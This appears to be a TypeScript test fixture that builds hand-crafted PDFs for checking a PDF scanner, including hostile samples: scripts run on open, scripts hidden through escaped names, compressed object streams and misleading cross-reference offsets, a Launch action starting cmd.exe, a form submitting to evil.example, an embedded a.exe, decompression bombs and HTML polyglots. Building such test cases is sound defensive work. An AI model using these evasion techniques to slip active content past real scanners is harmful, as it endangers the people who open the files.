// PDFs made by hand, good and bad. Each is valid except for the one thing it tests.
import { deflateSync } from 'node:zlib';

type Pdf = {
  /** Entries of the catalog beside its pages. */
  catalogue?: string;
  /** Further objects, numbered from 4. */
  objects?: (string | Buffer)[];
  trailer?: string;
  header?: string;
  /** One more object, written inside another in this way; the cross-reference table points to it. */
  inside?: { object: string; write: (object: string) => string };
};

const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>';
const firstObjects = (catalogue: string) => [
  `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  page,
];

export function makePdf({ catalogue = '', objects = [], trailer = '', header = '%PDF-1.7\n', inside }: Pdf = {}) {
  const all = [...firstObjects(catalogue), ...objects];
  const within = `${all.length + 2} 0 obj ${inside?.object} endobj`;
  if (inside) all.push(inside.write(within));
  const { body, offsets } = writeObjects(header, all);
  if (inside) offsets.push(body.indexOf(within));
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const table = `xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n${rows}`;
  const end = `trailer\n<< /Size ${offsets.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${body.length}\n%%EOF\n`;
  return Buffer.concat([body, Buffer.from(table + end, 'latin1')]);
}

/** As newer programs write them: the catalog's Names are in an object stream, and so is the cross-reference table. */
export function makeModernPdf(content: string, options: Parameters<typeof objectStream>[1] = {}, more: string[] = []) {
  const NAMES = 10;
  const all = [...firstObjects(`/Names ${NAMES} 0 R`), objectStream(content, options), ...more];
  const { body, offsets } = writeObjects('%PDF-1.7\n', all);
  const rows = Array.from({ length: NAMES + 1 }, (_, number) => {
    const row = Buffer.alloc(6);
    const offset = [...offsets.keys(), offsets.length].includes(number - 1) ? (offsets[number - 1] ?? body.length) : 0;
    // Type 1 is at an offset in the file, type 2 is the first in object 4.
    row.writeUInt8(number === NAMES ? 2 : offset > 0 ? 1 : 0);
    row.writeUInt32BE(number === NAMES ? 4 : offset, 1);
    return row;
  });
  const table = deflateSync(Buffer.concat(rows));
  const entries = `/Type /XRef /Size ${NAMES + 1} /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length ${table.length}`;
  return Buffer.concat([
    body,
    Buffer.from(`${offsets.length + 1} 0 obj\n<< ${entries} >>\nstream\n`),
    table,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${body.length}\n%%EOF\n`),
  ]);
}

function writeObjects(header: string, objects: (string | Buffer)[]) {
  const offsets: number[] = [];
  let body = Buffer.from(header, 'latin1');
  for (const [index, object] of objects.entries()) {
    offsets.push(body.length);
    const bytes = Buffer.from(object as string, 'latin1');
    body = Buffer.concat([body, Buffer.from(`${index + 1} 0 obj\n`), bytes, Buffer.from('\nendobj\n')]);
  }
  return { body, offsets };
}

/** Objects in a compressed stream, as newer programs write them. */
export function objectStream(
  content: string,
  { filter = '/FlateDecode', more = '', type = '/Type /ObjStm', gap = '', predicted = false } = {},
) {
  const plain = Buffer.from(`10 0 ${content}`, 'latin1');
  // Rows of one byte, each with its method before it: 2 is the difference from the row above.
  const predict = () => [...plain].flatMap((byte, i) => [2, (byte - (plain[i - 1] ?? 0) + 256) % 256]);
  const body = deflateSync(predicted ? Buffer.from(predict()) : plain);
  if (predicted) more += '/DecodeParms << /Predictor 12 >> ';
  const dictionary = `<< ${type} /N 1 /First 5 ${filter ? `/Filter ${filter}` : ''} /Length ${body.length} ${more}>>`;
  return Buffer.concat([Buffer.from(`${dictionary}\n${gap}stream\n`), body, Buffer.from('\nendstream')]);
}

/** As the value of Names: runs when the document is opened. */
const namedScript = '<< /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>';
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** All of them valid, in ways that simpler checks miss. */
export const packedScripts: Record<string, () => Buffer> = {
  'as newer programs write it': () => makeModernPdf(namedScript),
  'under an escaped name': () => makeModernPdf(namedScript.replaceAll('JavaScript', 'J#61va#53cript')),
  'whose filter is named elsewhere': () => makeModernPdf(namedScript, { filter: '5 0 R' }, ['/FlateDecode']),
  'with a remark before its filter': () => makeModernPdf(namedScript, { filter: '%\n/FlateDecode' }),
  'whose dictionary holds a misleading text': () => makeModernPdf(namedScript, { more: '/Note (obj <<) ' }),
  'far behind its dictionary': () => makeModernPdf(namedScript, { gap: ' '.repeat(40) }),
  'behind a remark': () => makeModernPdf(namedScript, { gap: '% >> not here\n' }),
  'behind a long dictionary': () => makeModernPdf(namedScript, { more: `/Note (${'x'.repeat(20_000)}) ` }),
  'that is predicted': () => makeModernPdf(namedScript, { predicted: true }),
};

export const hostileDocuments: Record<string, () => Buffer> = {
  'PDF that runs a script when opened': () => makePdf({ catalogue: `/OpenAction ${script}` }),
  'PDF with scripts by name': () =>
    makePdf({ catalogue: '/Names << /JavaScript 4 0 R >>', objects: [`<< /Names [(a) ${script}] >>`] }),
  'PDF with a script under an escaped name': () =>
    makePdf({ catalogue: '/OpenAction << /S /J#61va#53cript /JS (x) >>' }),
  'PDF with a script in a compressed stream': () => makePdf({ objects: [objectStream(script)] }),
  'PDF with a script in a compressed stream of no type': () =>
    makePdf({ objects: [objectStream(script, { type: '' })] }),
  'PDF with a script in a doubly packed stream': () =>
    makePdf({ objects: [objectStream(script, { filter: '[/ASCIIHexDecode /FlateDecode]' })] }),
  'PDF with a stream that unpacks without end': () =>
    makePdf({ objects: [objectStream(' '.repeat(80 * 1024 * 1024))] }),
  'PDF with a script where the table leads into a text': () =>
    makePdf({
      catalogue: '/OpenAction 5 0 R',
      inside: {
        object: namedScript,
        write: (object) => `<< /Note (${object}) >>`,
      },
    }),
  'PDF with a script where the table leads into a remark': () =>
    makePdf({ catalogue: '/Names 5 0 R', inside: { object: namedScript, write: (object) => `1 % ${object}` } }),
  'PDF with a script where the table leads into a stream': () =>
    makePdf({
      catalogue: '/Names 5 0 R',
      inside: {
        object: namedScript,
        write: (object) => `<< /Length ${object.length} >>\nstream\n${object}\nendstream`,
      },
    }),
  ...Object.fromEntries(
    Object.entries(packedScripts).map(([name, make]) => [`PDF with a script in a stream ${name}`, make]),
  ),
  'PDF with a file inside that does not say so': () =>
    makePdf({
      catalogue: '/AF [5 0 R]',
      objects: ['<< /Length 3 >>\nstream\nabc\nendstream', '<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>'],
    }),
  'PDF with a scene that runs a script': () =>
    makePdf({ objects: ['<< /Type /3D /Subtype /U3D /OnInstantiate 5 0 R /Length 3 >>\nstream\nabc\nendstream'] }),
  'PDF that starts a program': () => makePdf({ catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
  'PDF with a file inside': () =>
    makePdf({ objects: ['<< /Type /EmbeddedFile /Length 3 >>\nstream\nabc\nendstream', '<< /EF << /F 4 0 R >> >>'] }),
  'PDF with a list of files inside': () => makePdf({ catalogue: '/Names << /EmbeddedFiles << /Names [] >> >>' }),
  'PDF with a form that sends': () =>
    makePdf({ catalogue: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>' }),
  'PDF with a form in XML': () => makePdf({ catalogue: '/AcroForm << /XFA 4 0 R >>' }),
  'PDF with a player': () => makePdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] }),
  'PDF with a password': () => makePdf({ trailer: '/Encrypt << /Filter /Standard /V 1 >>' }),
  'PDF cut in half': () => makePdf({ objects: ['<< /A 1 >>'] }).subarray(0, 200),
  'PDF without an end': () => Buffer.from(makePdf().toString('latin1').replace('%%EOF', ''), 'latin1'),
  'PDF whose table is elsewhere': () =>
    Buffer.from(
      makePdf()
        .toString('latin1')
        .replace(/startxref\n\d+/, 'startxref\n7'),
      'latin1',
    ),
  'PDF whose table is far behind its place': () =>
    Buffer.from(`%PDF-1.7\n${' '.repeat(2000)}xref\ntrailer\n<< >>\nstartxref\n9\n%%EOF\n`),
  'PDF with a table whose rows are longer than itself': () => makePdf({ objects: [tableOfLongRows()] }),
  'PDF with an archive behind it': () => Buffer.concat([makePdf(), Buffer.from('PK\x03\x04'), Buffer.alloc(3000, 7)]),
  'PDF in name only': () => Buffer.from('%PDF-1.7\n<script>alert(1)</script>'),
  'PDF behind a page': () => makePdf({ header: '<script>alert(1)</script>\n%PDF-1.7\n' }),
  'PDF of a version there is not': () => makePdf({ header: '%PDF-9.9\n' }),
};

/** With 40 bytes in the file, 30 MB if it were believed. */
function tableOfLongRows() {
  const rows = deflateSync(Buffer.alloc(8));
  const parameters = '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 30000000 >>';
  const entries = `/Type /XRef /W [1 2 1] ${parameters} /Length ${rows.length}`;
  return Buffer.concat([Buffer.from(`<< ${entries} >>\nstream\n`), rows, Buffer.from('\nendstream')]);
}
